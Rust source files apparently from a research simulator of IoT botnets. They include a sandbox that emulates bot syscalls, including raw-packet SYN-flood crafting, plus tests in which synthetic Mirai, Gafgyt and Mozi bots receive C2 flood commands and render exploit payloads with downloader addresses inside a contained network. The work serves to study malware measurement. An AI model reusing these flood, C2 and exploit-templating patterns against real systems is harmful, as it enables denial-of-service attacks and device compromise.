    fn syscall(&mut self, sb: &mut Sandbox, deadline: SimTime) -> Option<ExitReason> {
        let nr = self.cpu.reg(2);
        let a0 = self.cpu.reg(4);
        let a1 = self.cpu.reg(5);
        let a2 = self.cpu.reg(6);
        let a3 = self.cpu.reg(7);
        // `run` bumped the count before dispatch: the 1-based index of
        // this call, and the coordinate every injected fault keys on.
        let idx = self.syscall_count;
        match nr {
            sys::NR_EXIT => return Some(ExitReason::Exited(a0)),
            sys::NR_GETPID => self.ret(1337),
            sys::NR_TIME => {
                let secs = (sb.net.now().as_micros() / 1_000_000) as u32;
                self.ret(secs);
            }
            sys::NR_GETRANDOM => {
                // a0 = buf, a1 = len per Linux; the stub passes len in a1.
                let n = a1.min(64) as usize;
                let mut bytes = [0u8; 64];
                self.rng.fill(&mut bytes[..n]);
                if self.cpu.mem.write_bytes(a0, &bytes[..n]).is_err() {
                    self.ret_err(sys::EINVAL);
                } else {
                    self.ret(n as u32);
                }
            }
            sys::NR_NANOSLEEP => {
                if self.cfg.faults.eintr(idx) {
                    self.fault_tally.eintr += 1;
                    self.ret_err(sys::EINTR);
                    return None;
                }
                let secs = self.cpu.mem.read_u32(a0).unwrap_or(0);
                let nanos = self.cpu.mem.read_u32(a0.wrapping_add(4)).unwrap_or(0);
                let mut dur = SimDuration::from_secs(u64::from(secs))
                    + SimDuration::from_micros(u64::from(nanos) / 1000);
                let remaining = deadline.since(sb.net.now());
                if dur > remaining {
                    dur = remaining;
                }
                sb.net.run_for(dur);
                self.pump(sb);
                self.ret(0);
            }
            sys::NR_SOCKET => {
                // Allocation-backed path: the fault sub-plan's ENOMEM
                // fires before any kernel-side state is touched.
                if self.cfg.faults.enomem(idx) {
                    self.fault_tally.enomem += 1;
                    self.ret_err(sys::ENOMEM);
                    return None;
                }
                if self.fds.len() >= self.fd_cap() as usize {
                    self.fault_tally.emfile += 1;
                    self.ret_err(sys::EMFILE);
                    return None;
                }
                let fd = self.next_fd;
                self.next_fd += 1;
                let entry = match (a1, a2) {
                    (sys::SOCK_STREAM, _) => Fd::Tcp {
                        sock: SockId(u64::MAX),
                        state: TcpState::Failed,
                        rx: VecDeque::new(),
                        peer_closed: false,
                    },
                    (sys::SOCK_DGRAM, _) => {
                        let sport = sb.net.with_external(self.cfg.bot_ip, |s| {
                            let p = s.ephemeral_port();
                            s.udp_bind(p);
                            (p, vec![])
                        });
                        Fd::Udp {
                            sport,
                            rx: VecDeque::new(),
                        }
                    }
                    (sys::SOCK_RAW, 6) => Fd::RawTcp,
                    (sys::SOCK_RAW, 1) => Fd::RawIcmp,
                    _ => {
                        self.ret_err(sys::EINVAL);
                        return None;
                    }
                };
                self.fds.insert(fd, entry);
                self.ret(fd);
            }
            sys::NR_CONNECT => {
                let Some((_, port, ip)) = self.read_sockaddr(a1) else {
                    self.ret_err(sys::EINVAL);
                    return None;
                };
                let dst = Ipv4Addr::from(ip);
                if !matches!(self.fds.get(&a0), Some(Fd::Tcp { .. })) {
                    self.ret_err(sys::EBADF);
                    return None;
                }
                // Policy hook: redirect / fake / refuse.
                let Some((real_dst, real_port)) = sb.prepare_tcp_dest(dst, port) else {
                    self.ret_err(sys::ECONNREFUSED);
                    return None;
                };
                let sock = sb.net.ext_tcp_connect(self.cfg.bot_ip, real_dst, real_port);
                if let Some(Fd::Tcp {
                    sock: s,
                    state,
                    rx,
                    peer_closed,
                }) = self.fds.get_mut(&a0)
                {
                    *s = sock;
                    *state = TcpState::Connecting;
                    rx.clear();
                    *peer_closed = false;
                }
                // Block until resolution.
                let give_up = sb.net.now() + CONNECT_WAIT;
                loop {
                    sb.net.run_for(SimDuration::from_millis(50));
                    self.pump(sb);
                    let st = match self.fds.get(&a0) {
                        Some(Fd::Tcp { state, .. }) => *state,
                        _ => TcpState::Failed,
                    };
                    match st {
                        TcpState::Connected => {
                            self.ret(0);
                            break;
                        }
                        TcpState::Failed => {
                            self.ret_err(sys::ECONNREFUSED);
                            break;
                        }
                        TcpState::Connecting => {
                            if sb.net.now() >= give_up || sb.net.now() >= deadline {
                                self.ret_err(sys::ETIMEDOUT);
                                break;
                            }
                        }
                    }
                }
            }
            sys::NR_SEND | sys::NR_WRITE => {
                let len = a2.min(65536);
                // A bad buffer is EINVAL even on a bad fd (checked
                // before the fd, matching the pre-fast-path ordering).
                if self.cpu.mem.view(a1, len).is_err() {
                    self.ret_err(sys::EINVAL);
                    return None;
                }
                match self.fds.get(&a0) {
                    Some(Fd::Tcp {
                        sock,
                        state: TcpState::Connected,
                        ..
                    }) => {
                        let sock = *sock;
                        // Short write: transmit (and report) a partial
                        // count; the guest's retry loop owns the rest.
                        let len = match self.cfg.faults.short_count(idx, len as usize) {
                            Some(n) => {
                                self.fault_tally.short_io += 1;
                                n as u32
                            }
                            None => len,
                        };
                        // Borrow the payload straight out of guest memory:
                        // the hot send loop copies nothing.
                        let data = self.cpu.mem.view(a1, len).expect("validated above");
                        sb.net.ext_tcp_send(self.cfg.bot_ip, sock, data);
                        self.ret(len);
                    }
                    _ => self.ret_err(sys::EBADF),
                }
            }
            sys::NR_RECV | sys::NR_READ | sys::NR_RECVFROM => {
                if self.cfg.faults.eintr(idx) {
                    self.fault_tally.eintr += 1;
                    self.ret_err(sys::EINTR);
                    return None;
                }
                let timeout = if a3 == 0 {
                    DEFAULT_RECV_TIMEOUT
                } else {
                    SimDuration::from_millis(u64::from(a3))
                };
                let give_up = sb.net.now() + timeout;
                loop {
                    self.pump(sb);
                    let ready = match self.fds.get(&a0) {
                        Some(Fd::Tcp {
                            rx, peer_closed, ..
                        }) => !rx.is_empty() || *peer_closed,
                        Some(Fd::Udp { rx, .. }) => !rx.is_empty(),
                        _ => {
                            self.ret_err(sys::EBADF);
                            return None;
                        }
                    };
                    if ready {
                        break;
                    }
                    if sb.net.now() >= give_up || sb.net.now() >= deadline {
                        self.ret_err(sys::ETIMEDOUT);
                        return None;
                    }
                    sb.net.run_for(SimDuration::from_millis(100));
                }
                let max = a2 as usize;
                let chunk: Vec<u8> = match self.fds.get_mut(&a0) {
                    Some(Fd::Tcp { rx, .. }) => {
                        // Short read: deliver a partial count; the rest
                        // stays queued for the guest's next read.
                        let mut n = rx.len().min(max);
                        if let Some(s) = self.cfg.faults.short_count(idx, n) {
                            self.fault_tally.short_io += 1;
                            n = s;
                        }
                        rx.drain(..n).collect()
                    }
                    Some(Fd::Udp { rx, .. }) => match rx.pop_front() {
                        Some((_, _, d)) => d.into_iter().take(max).collect(),
                        None => Vec::new(),
                    },
                    _ => Vec::new(),
                };
                if chunk.is_empty() {
                    // Peer closed with no data: return 0 (EOF).
                    self.ret(0);
                } else if self.cpu.mem.write_bytes(a1, &chunk).is_err() {
                    self.ret_err(sys::EINVAL);
                } else {
                    self.ret(chunk.len() as u32);
                }
            }
            sys::NR_SENDTO => {
                // o32: args 5/6 on the stack.
                let sp = self.cpu.reg(29);
                let addr_ptr = self.cpu.mem.read_u32(sp.wrapping_add(16)).unwrap_or(0);
                let Some((_, port, ip)) = self.read_sockaddr(addr_ptr) else {
                    self.ret_err(sys::EINVAL);
                    return None;
                };
                let dst = Ipv4Addr::from(ip);
                let data = match self.cpu.mem.read_bytes(a1, a2.min(65536)) {
                    Ok(d) => d,
                    Err(_) => {
                        self.ret_err(sys::EINVAL);
                        return None;
                    }
                };
                match self.fds.get(&a0) {
                    Some(Fd::Udp { sport, .. }) => {
                        let sport = *sport;
                        let (rdst, rport) = sb.prepare_udp_dest(dst, port);
                        let n = data.len() as u32;
                        sb.net
                            .ext_udp_send(self.cfg.bot_ip, sport, rdst, rport, data);
                        self.ret(n);
                    }
                    Some(Fd::RawTcp) => {
                        if let Some(pkt) = self.craft_tcp(dst, &data) {
                            sb.net.ext_send_raw(self.cfg.bot_ip, pkt);
                            self.ret(a2);
                        } else {
                            self.ret_err(sys::EINVAL);
                        }
                    }
                    Some(Fd::RawIcmp) => match IcmpMessage::decode(&data) {
                        Ok(msg) => {
                            let pkt = Packet::icmp(self.cfg.bot_ip, dst, msg);
                            sb.net.ext_send_raw(self.cfg.bot_ip, pkt);
                            self.ret(a2);
                        }
                        Err(_) => self.ret_err(sys::EINVAL),
                    },
                    Some(Fd::Tcp { .. }) => self.ret_err(sys::EINVAL),
                    None => self.ret_err(sys::EBADF),
                }
            }
            sys::NR_CLOSE => match self.fds.remove(&a0) {
                Some(Fd::Tcp { sock, state, .. }) => {
                    if state == TcpState::Connected || state == TcpState::Connecting {
                        if a1 == 1 {
                            sb.net.ext_tcp_abort(self.cfg.bot_ip, sock);
                        } else {
                            sb.net.ext_tcp_close(self.cfg.bot_ip, sock);
                        }
                    }
                    self.ret(0);
                }
                Some(Fd::Udp { sport, .. }) => {
                    sb.net.with_external(self.cfg.bot_ip, |s| {
                        s.udp_unbind(sport);
                        ((), vec![])
                    });
                    self.ret(0);
                }
                Some(_) => self.ret(0),
                None => self.ret_err(sys::EBADF),
            },
            sys::NR_ACCEPT => {
                // Blocking call, so the EINTR fault applies; otherwise
                // bots in our corpus never act as servers.
                if self.cfg.faults.eintr(idx) {
                    self.fault_tally.eintr += 1;
                    self.ret_err(sys::EINTR);
                } else {
                    self.ret_err(sys::EINVAL);
                }
            }
            sys::NR_BIND | sys::NR_LISTEN => {
                // Bots in our corpus never act as servers.
                self.ret_err(sys::EINVAL);
            }
            _ => {
                // Unknown syscall: fail soft like a strict seccomp would.
                self.ret_err(sys::EINVAL);
            }
        }
        None
    }

    fn read_sockaddr(&self, addr: u32) -> Option<(u16, u16, u32)> {
        let mut bytes = [0u8; 8];
        self.cpu.mem.read_into(addr, &mut bytes).ok()?;
        sys::decode_sockaddr(&bytes)
    }

    /// Parse a guest-crafted 20+-byte TCP header into a packet (raw
    /// socket SYN-flood path). No checksum verification: the kernel fills
    /// checksums for raw senders, and so do we at encode time.
    fn craft_tcp(&self, dst: Ipv4Addr, data: &[u8]) -> Option<Packet> {
        if data.len() < 20 {
            return None;
        }
        let src_port = u16::from_be_bytes([data[0], data[1]]);
        let dst_port = u16::from_be_bytes([data[2], data[3]]);
        let seq = u32::from_be_bytes([data[4], data[5], data[6], data[7]]);
        let flags = TcpFlags(data[13]);
        let payload = data.get(20..).unwrap_or(&[]).to_vec();
        Some(Packet::tcp(
            self.cfg.bot_ip,
            src_port,
            dst,
            dst_port,
            seq,
            0,
            flags,
            payload,
        ))
    }
}

impl std::fmt::Debug for BotProcess {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BotProcess")
            .field("bot_ip", &self.cfg.bot_ip)
            .field("retired", &self.cpu.retired)
            .field("fds", &self.fds.len())
            .field("syscalls", &self.syscall_count)
            .finish()
    }
}
