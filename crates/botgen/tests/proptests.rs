//! Property tests for the world-model substrates: bytecode encoding,
//! ELF emission, exploit templating and corpus invariants.

use std::net::Ipv4Addr;

use proptest::prelude::*;

use malnet_botgen::binary::{emit_elf, extract_program, BotProgram};
use malnet_botgen::botvm::{decode_all, Op, SockKind, RECORD_SIZE};
use malnet_botgen::exploitdb::{self, VulnId};
use malnet_botgen::programs::compile;
use malnet_botgen::spec::{BehaviorSpec, C2Endpoint, ExploitPlan};
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_protocols::Family;

fn arb_op() -> impl Strategy<Value = Op> {
    let r = || 0u8..16;
    prop_oneof![
        Just(Op::End),
        (r(), any::<u32>()).prop_map(|(r, a)| Op::Ldi { r, a }),
        (r(), r()).prop_map(|(r, x)| Op::Mov { r, x }),
        (r(), r(), r()).prop_map(|(r, x, y)| Op::Add { r, x, y }),
        (r(), r(), r()).prop_map(|(r, x, y)| Op::Mod { r, x, y }),
        (r(), r(), any::<u32>()).prop_map(|(r, x, a)| Op::Addi { r, x, a }),
        any::<u32>().prop_map(|a| Op::Jmp { a }),
        (r(), r(), any::<u32>()).prop_map(|(x, y, a)| Op::Jlt { x, y, a }),
        r().prop_map(|r| Op::Rand { r }),
        any::<u32>().prop_map(|a| Op::SleepMs { a }),
        (
            r(),
            prop_oneof![
                Just(SockKind::Tcp),
                Just(SockKind::Udp),
                Just(SockKind::RawTcp),
                Just(SockKind::RawIcmp)
            ]
        )
            .prop_map(|(r, kind)| Op::Socket { r, kind }),
        (r(), r(), r(), any::<u32>(), any::<u32>()).prop_map(|(r, x, y, a, b)| Op::Connect {
            r,
            x,
            y,
            a,
            b
        }),
        (r(), any::<u32>(), any::<u32>()).prop_map(|(x, a, b)| Op::Send { x, a, b }),
        (r(), r(), any::<u32>()).prop_map(|(r, x, a)| Op::Recv { r, x, a }),
        (r(), r(), r(), any::<u32>(), any::<u32>(), any::<u32>())
            .prop_map(|(x, y, r, a, b, c)| Op::SendTo { x, y, r, a, b, c }),
        (r(), r()).prop_map(|(r, x)| Op::ParseIp { r, x }),
        (r(), r(), any::<u32>(), any::<u32>()).prop_map(|(r, x, a, b)| Op::Match { r, x, a, b }),
        (r(), r(), any::<u32>(), any::<u32>()).prop_map(|(x, y, a, b)| Op::RawSend { x, y, a, b }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Arbitrary bytecode round-trips through the 16-byte encoding.
    #[test]
    fn bytecode_roundtrip(ops in proptest::collection::vec(arb_op(), 0..80)) {
        let bytes: Vec<u8> = ops.iter().flat_map(|o| o.encode()).collect();
        prop_assert_eq!(bytes.len(), ops.len() * RECORD_SIZE);
        prop_assert_eq!(decode_all(&bytes).unwrap(), ops);
    }

    /// Arbitrary programs + blobs survive ELF emission and extraction.
    #[test]
    fn elf_program_roundtrip(
        ops in proptest::collection::vec(arb_op(), 1..40),
        blob in proptest::collection::vec(any::<u8>(), 0..512),
        junk in proptest::collection::vec(any::<u8>(), 0..128),
    ) {
        let program = BotProgram {
            bytecode: ops.iter().flat_map(|o| o.encode()).collect(),
            blob,
        };
        let elf = emit_elf(&program, &junk);
        prop_assert_eq!(extract_program(&elf), Some(program));
    }

    /// Every (vuln, downloader, loader) combination renders a payload
    /// that classifies back to the vuln and yields its downloader.
    #[test]
    fn exploit_payload_invertible(
        vuln_idx in 0usize..13,
        dl in any::<u32>().prop_map(Ipv4Addr::from),
        loader in "[a-zA-Z0-9]{1,12}\\.sh",
        full in any::<bool>(),
    ) {
        let vuln = VulnId::ALL[vuln_idx];
        let payload = exploitdb::payload(vuln, dl, &loader, full);
        let classes = exploitdb::classify(&payload);
        // The reduced GPON variant deliberately evidences only
        // CVE-2018-10561 even when rendered "for" 10562.
        let expect = if vuln == VulnId::Gpon10562 && !full {
            VulnId::Gpon10561
        } else {
            vuln
        };
        prop_assert!(classes.contains(&expect), "{vuln:?} -> {classes:?}");
        let (got_dl, got_loader) = exploitdb::extract_downloader(&payload)
            .expect("downloader recoverable");
        prop_assert_eq!(got_dl, dl);
        prop_assert_eq!(got_loader, loader);
    }

    /// classify never panics and reports nothing for random bytes.
    #[test]
    fn classify_total_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let _ = exploitdb::classify(&bytes);
        let _ = exploitdb::extract_downloader(&bytes);
    }

    /// Compiled programs always have in-range jump targets and decodable
    /// bytecode, across arbitrary spec shapes.
    #[test]
    fn compiled_specs_are_well_formed(
        fam_idx in 0usize..7,
        n_c2 in 0usize..4,
        n_exp in 0usize..3,
        evasive in any::<bool>(),
        pps in 1u32..500,
    ) {
        let family = Family::ALL[fam_idx];
        let mut spec = BehaviorSpec {
            family,
            evasive,
            attack_pps: pps,
            ..Default::default()
        };
        if family.is_p2p() {
            spec.peers = vec![(Ipv4Addr::new(10, 9, 0, 1), 14737)];
        } else {
            for i in 0..n_c2.max(1) {
                spec.c2.push((
                    C2Endpoint::Ip(Ipv4Addr::new(10, 1, 0, i as u8 + 1)),
                    23,
                ));
            }
        }
        for i in 0..n_exp {
            spec.exploits.push(ExploitPlan {
                vuln: VulnId::ALL[i * 3 % 13],
                downloader: Ipv4Addr::new(45, 0, 0, 1),
                loader: "x.sh".into(),
                full_gpon: true,
            });
        }
        let prog = compile(&spec);
        let ops = decode_all(&prog.bytecode).expect("decodable");
        for op in &ops {
            if let Op::Jmp { a } | Op::Jeq { a, .. } | Op::Jne { a, .. } | Op::Jlt { a, .. } = op {
                prop_assert!((*a as usize) < ops.len());
            }
        }
    }
}

/// Non-proptest corpus invariants over a mid-size world.
#[test]
fn world_invariants() {
    let w = World::generate(WorldConfig {
        seed: 123,
        n_samples: 300,
        cal: Calibration::default(),
    });
    for s in &w.samples {
        assert!(s.publish_day < malnet_netsim::time::STUDY_DAYS);
        assert!(
            malnet_netsim::time::study_week_of_day(s.publish_day).is_some(),
            "samples arrive only in observed study weeks"
        );
        for &cid in &s.c2_ids {
            assert!(cid < w.c2s.len());
            assert_eq!(
                w.c2s[cid].family, s.family,
                "bots speak their C2's protocol"
            );
        }
        if s.family.is_p2p() {
            assert!(s.c2_ids.is_empty());
            assert!(!s.spec.peers.is_empty());
        }
    }
    for c2 in &w.c2s {
        assert!(
            c2.born_day < c2.dead_day,
            "{}..{}",
            c2.born_day,
            c2.dead_day
        );
    }
    // Host IPs are unique across C2s.
    let mut ips: Vec<_> = w.c2s.iter().map(|c| c.host_ip).collect();
    ips.sort_unstable();
    let n = ips.len();
    ips.dedup();
    assert_eq!(ips.len(), n, "duplicate C2 host addresses");
}
