//! End-to-end integration: generated MIPS ELF binaries executed by the
//! sandbox's emulator against the simulated network.
//!
//! These tests close the whole loop the paper's methodology depends on:
//! a *binary* (not a behaviour description) is what gets analyzed, and
//! every observation below is made from the sandbox's artifacts (pcap
//! bytes, handshaker captures) — never from generator state.

use std::net::Ipv4Addr;

use malnet_botgen::binary::emit_elf;
use malnet_botgen::exploitdb::{self, VulnId};
use malnet_botgen::programs::compile;
use malnet_botgen::spec::{BehaviorSpec, C2Endpoint, ExploitPlan};
use malnet_netsim::net::Network;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_protocols::Family;
use malnet_sandbox::{AnalysisMode, Sandbox, SandboxConfig};
use malnet_wire::packet::Transport;

const C2_IP: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);

fn mirai_spec() -> BehaviorSpec {
    BehaviorSpec {
        family: Family::Mirai,
        c2: vec![(C2Endpoint::Ip(C2_IP), 23)],
        exploits: vec![ExploitPlan {
            vuln: VulnId::MvpowerDvr,
            downloader: C2_IP,
            loader: "t8UsA2.sh".into(),
            full_gpon: true,
        }],
        scan_base: Ipv4Addr::new(100, 70, 0, 0),
        scan_mask: 0x0000_001f, // tiny pool so the handshaker engages fast
        scan_burst: 8,
        recv_timeout_ms: 5_000,
        ..Default::default()
    }
}

fn run_contained(spec: &BehaviorSpec, secs: u64, threshold: usize) -> malnet_sandbox::Artifacts {
    let elf = emit_elf(&compile(spec), b"e2e");
    let net = Network::new(SimTime::EPOCH, 99);
    let mut sb = Sandbox::new(
        net,
        SandboxConfig {
            mode: AnalysisMode::Contained,
            handshaker_threshold: Some(threshold),
            seed: 11,
            ..Default::default()
        },
    );
    sb.execute(&elf, SimDuration::from_secs(secs))
}

#[test]
fn mirai_binary_emits_c2_syn_visible_in_pcap() {
    let art = run_contained(&mirai_spec(), 30, 1000);
    let packets = art.packets();
    assert!(!packets.is_empty(), "no traffic captured: {:?}", art.exit);
    // The C2 SYN to 10.1.0.5:23 must appear in the capture.
    let c2_syn = packets.iter().any(|(_, p)| {
        p.dst == C2_IP
            && p.transport.dst_port() == Some(23)
            && p.tcp_flags().map(|f| f.syn() && !f.ack()).unwrap_or(false)
    });
    assert!(c2_syn, "no C2 SYN in capture");
}

#[test]
fn handshaker_captures_exploit_payload() {
    // Threshold 3: after 3 distinct scan targets, victims engage.
    let art = run_contained(&mirai_spec(), 600, 3);
    assert!(
        !art.exploits.is_empty(),
        "handshaker captured nothing (exit {:?}, {} syscalls)",
        art.exit,
        art.syscalls
    );
    let payload = &art.exploits[0].payload;
    let vulns = exploitdb::classify(payload);
    assert_eq!(
        vulns,
        vec![VulnId::MvpowerDvr],
        "{:?}",
        String::from_utf8_lossy(payload)
    );
    let (dl, loader) = exploitdb::extract_downloader(payload).unwrap();
    assert_eq!(dl, C2_IP);
    assert_eq!(loader, "t8UsA2.sh");
    assert_eq!(art.exploits[0].port, 80);
}

#[test]
fn dns_configured_sample_queries_and_follows_wildcard_answer() {
    let mut spec = mirai_spec();
    spec.c2 = vec![(C2Endpoint::Domain("cnc.botnet.example".into()), 6667)];
    let art = run_contained(&spec, 30, 1000);
    assert!(
        art.dns_queries.iter().any(|q| q == "cnc.botnet.example"),
        "{:?}",
        art.dns_queries
    );
    // After the wildcard answer, the bot must SYN the sinkhole address.
    let packets = art.packets();
    let followed = packets.iter().any(|(_, p)| {
        p.dst == malnet_sandbox::sandbox::DNS_SINKHOLE && p.transport.dst_port() == Some(6667)
    });
    assert!(followed, "bot did not follow the DNS answer");
}

#[test]
fn evasive_sample_aborts_without_dns_but_activates_with_inetsim() {
    let mut spec = mirai_spec();
    spec.evasive = true;
    // With the sandbox's wildcard DNS (InetSim), the canary resolves and
    // the sample proceeds to its C2.
    let art = run_contained(&spec, 30, 1000);
    let c2_contacted = art
        .packets()
        .iter()
        .any(|(_, p)| p.dst == C2_IP && p.transport.dst_port() == Some(23));
    assert!(
        c2_contacted,
        "evasive sample failed to activate under InetSim"
    );
}

#[test]
fn gafgyt_binary_sends_text_login() {
    let mut spec = mirai_spec();
    spec.family = Family::Gafgyt;
    let art = run_contained(&spec, 30, 1000);
    // In contained mode the C2 connect times out (no such host), but the
    // SYN is still evidence. Install nothing and check the SYN; the
    // login itself needs a live C2 (covered in the world tests).
    let c2_syn = art
        .packets()
        .iter()
        .any(|(_, p)| p.dst == C2_IP && p.transport.dst_port() == Some(23));
    assert!(c2_syn);
}

#[test]
fn mozi_binary_gossips_with_peers() {
    let peer = Ipv4Addr::new(10, 9, 0, 1);
    let spec = BehaviorSpec {
        family: Family::Mozi,
        c2: vec![],
        exploits: vec![],
        peers: vec![(peer, 14737)],
        ..Default::default()
    };
    let art = run_contained(&spec, 30, 1000);
    let gossip: Vec<_> = art
        .packets()
        .into_iter()
        .filter(|(_, p)| p.dst == peer && matches!(p.transport, Transport::Udp { .. }))
        .collect();
    assert!(
        gossip.len() >= 2,
        "expected ping+find_node, got {}",
        gossip.len()
    );
    // Payload parses as a Mozi message.
    let (_, first) = &gossip[0];
    let msg = malnet_protocols::mozi::MoziMsg::decode(first.transport.payload());
    assert!(msg.is_some());
}

#[test]
fn binary_is_deterministic_across_runs() {
    let a = run_contained(&mirai_spec(), 20, 3);
    let b = run_contained(&mirai_spec(), 20, 3);
    assert_eq!(a.pcap, b.pcap);
    assert_eq!(a.exploits.len(), b.exploits.len());
}

#[test]
fn corrupted_binary_fails_activation() {
    let mut elf = emit_elf(&compile(&mirai_spec()), b"x");
    // Corrupt the config magic so the stub exits immediately.
    let pos = elf.windows(4).position(|w| w == b"MNBC").unwrap();
    elf[pos] ^= 0xff;
    let net = Network::new(SimTime::EPOCH, 1);
    let mut sb = Sandbox::new(net, SandboxConfig::default());
    let art = sb.execute(&elf, SimDuration::from_secs(5));
    assert_eq!(art.exit, malnet_sandbox::ExitReason::Exited(127));
    assert!(art.packets().is_empty());
}

// --- live C2 session tests -------------------------------------------------

use malnet_botgen::c2service::{install_c2, C2Config, RespondMode};
use malnet_protocols::{AttackCommand, AttackMethod};

fn run_with_live_c2(
    family: Family,
    command: AttackCommand,
    secs: u64,
) -> (malnet_sandbox::Artifacts, malnet_botgen::c2service::C2Log) {
    let mut spec = mirai_spec();
    spec.family = family;
    spec.exploits.clear(); // keep the session focused on C2 traffic
    let elf = emit_elf(&compile(&spec), b"live");
    let mut net = Network::new(SimTime::EPOCH, 7);
    let log = install_c2(
        &mut net,
        C2_IP,
        C2Config {
            family,
            port: 23,
            respond: RespondMode::Always,
            commands_on_login: vec![(SimDuration::from_secs(5), command)],
            serve_loader: None,
        },
    );
    // Restricted mode: only the C2 is reachable — attack traffic is
    // contained by the egress filter but still captured (paper §2.5).
    let mut sb = Sandbox::new(
        net,
        SandboxConfig {
            mode: AnalysisMode::Restricted {
                allowed: vec![C2_IP],
            },
            handshaker_threshold: None,
            seed: 5,
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(secs));
    (art, log)
}

fn flood_packets_to(art: &malnet_sandbox::Artifacts, target: Ipv4Addr) -> usize {
    art.packets()
        .iter()
        .filter(|(_, p)| p.dst == target)
        .count()
}

#[test]
fn mirai_bot_obeys_udp_flood_command() {
    let target = Ipv4Addr::new(203, 0, 113, 99);
    let command = AttackCommand {
        method: AttackMethod::UdpFlood,
        target,
        port: 4567,
        duration_secs: 3,
    };
    let (art, log) = run_with_live_c2(Family::Mirai, command, 60);
    assert_eq!(
        log.lock().unwrap().commands.len(),
        1,
        "C2 issued the command"
    );
    let n = flood_packets_to(&art, target);
    // 3 s at default 200 pps ≈ 600 packets (containment still captures).
    assert!(n > 300, "expected a flood, saw {n} packets");
    // All flood packets are UDP to the commanded port with null payload.
    let sample = art
        .packets()
        .into_iter()
        .find(|(_, p)| p.dst == target)
        .unwrap();
    assert_eq!(sample.1.transport.dst_port(), Some(4567));
    assert_eq!(sample.1.transport.payload(), &[0u8]);
}

#[test]
fn daddyl33t_bot_launches_blacknurse() {
    let target = Ipv4Addr::new(198, 51, 100, 77);
    let command = AttackCommand {
        method: AttackMethod::Blacknurse,
        target,
        port: 0,
        duration_secs: 2,
    };
    let (art, _log) = run_with_live_c2(Family::Daddyl33t, command, 60);
    let icmp: Vec<_> = art
        .packets()
        .into_iter()
        .filter(|(_, p)| {
            p.dst == target && matches!(&p.transport, Transport::Icmp(m) if m.icmp_type() == 3)
        })
        .collect();
    assert!(icmp.len() > 100, "BLACKNURSE flood missing: {}", icmp.len());
}

#[test]
fn mirai_bot_syn_floods_with_random_source_ports() {
    let target = Ipv4Addr::new(198, 51, 100, 10);
    let command = AttackCommand {
        method: AttackMethod::SynFlood,
        target,
        port: 80,
        duration_secs: 2,
    };
    let (art, _log) = run_with_live_c2(Family::Mirai, command, 60);
    let syns: Vec<_> = art
        .packets()
        .into_iter()
        .filter(|(_, p)| p.dst == target && p.tcp_flags().map(|f| f.syn()).unwrap_or(false))
        .collect();
    assert!(syns.len() > 100, "SYN flood missing: {}", syns.len());
    let sports: std::collections::HashSet<u16> = syns
        .iter()
        .filter_map(|(_, p)| p.transport.src_port())
        .collect();
    assert!(sports.len() > 10, "multi-source-port variant expected");
    assert!(syns.iter().all(|(_, p)| p.transport.dst_port() == Some(80)));
}

#[test]
fn gafgyt_bot_runs_std_attack_with_stable_random_payload() {
    let target = Ipv4Addr::new(198, 51, 100, 33);
    let command = AttackCommand {
        method: AttackMethod::Std,
        target,
        port: 9999,
        duration_secs: 2,
    };
    let (art, _log) = run_with_live_c2(Family::Gafgyt, command, 60);
    let floods: Vec<_> = art
        .packets()
        .into_iter()
        .filter(|(_, p)| p.dst == target)
        .collect();
    assert!(floods.len() > 100, "STD flood missing: {}", floods.len());
    // The random string is generated once and reused (paper §5.1).
    let first = floods[0].1.transport.payload().to_vec();
    assert_eq!(first.len(), 64);
    assert!(floods.iter().all(|(_, p)| p.transport.payload() == first));
}

#[test]
fn restricted_mode_contains_attack_traffic() {
    let target = Ipv4Addr::new(203, 0, 113, 99);
    let command = AttackCommand {
        method: AttackMethod::UdpFlood,
        target,
        port: 80,
        duration_secs: 2,
    };
    let (_art, _) = run_with_live_c2(Family::Mirai, command, 60);
    // The egress filter never delivered flood packets: the target host
    // doesn't exist, so any delivery attempt would have blackholed —
    // but more to the point, the capture shows them while the network
    // stats show containment. (Captured != released.)
    // Re-run and inspect network stats directly.
    let mut spec = mirai_spec();
    spec.exploits.clear();
    let elf = emit_elf(&compile(&spec), b"live");
    let mut net = Network::new(SimTime::EPOCH, 7);
    install_c2(
        &mut net,
        C2_IP,
        C2Config {
            commands_on_login: vec![(SimDuration::from_secs(5), command)],
            ..Default::default()
        },
    );
    let mut sb = Sandbox::new(
        net,
        SandboxConfig {
            mode: AnalysisMode::Restricted {
                allowed: vec![C2_IP],
            },
            handshaker_threshold: None,
            seed: 5,
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(60));
    assert!(flood_packets_to(&art, target) > 100, "flood captured");
    let net = sb.into_network();
    assert_eq!(
        net.stats.blackholed, 0,
        "no attack packet may leave the sandbox"
    );
}
