//! The calibrated world model: the synthetic stand-in for "the Internet
//! plus one year of VirusTotal/MalwareBazaar feeds".
//!
//! [`World::generate`] builds, from a single seed:
//!
//! * an AS-level Internet ([`malnet_netsim::asdb`]) whose C2-hosting
//!   weights follow Table 2 / Figure 1 / Figure 13,
//! * a C2 population with calibrated lifespans (§3.2 / Figure 2),
//!   sample-sharing (Figure 5) and elusiveness (Figure 4),
//! * a corpus of MIPS ELF malware binaries arriving over the 31 study
//!   weeks (Table 1), with exploit arsenals matching Table 4 / Figure 8,
//!   loader names matching Figure 9, and downloader co-location (§3.1),
//! * a DDoS attack plan reproducing §5 (42 commands, 17 C2s, 20 samples,
//!   8 attack types, target ASes per Figure 12),
//! * the D-PC2 probing theatre: 6 suspicious /24s, 12 historical ports
//!   (Table 5), and 7 long-lived elusive C2s.
//!
//! Every calibration constant lives in [`Calibration`] and is documented
//! against the paper claim it reproduces. The pipeline never reads this
//! module's ground truth — only the evaluation harness does.

use std::collections::{BTreeMap, HashMap};
use std::net::Ipv4Addr;

use malnet_prng::rngs::StdRng;
use malnet_prng::seq::SliceRandom;
use malnet_prng::{Rng, SeedableRng};

use malnet_netsim::asdb::{standard_internet, AsDb, AsKind, Asn, Prefix};
use malnet_netsim::dns::{DnsHandle, DnsService};
use malnet_netsim::net::Network;
use malnet_netsim::services::{BannerService, SinkService};
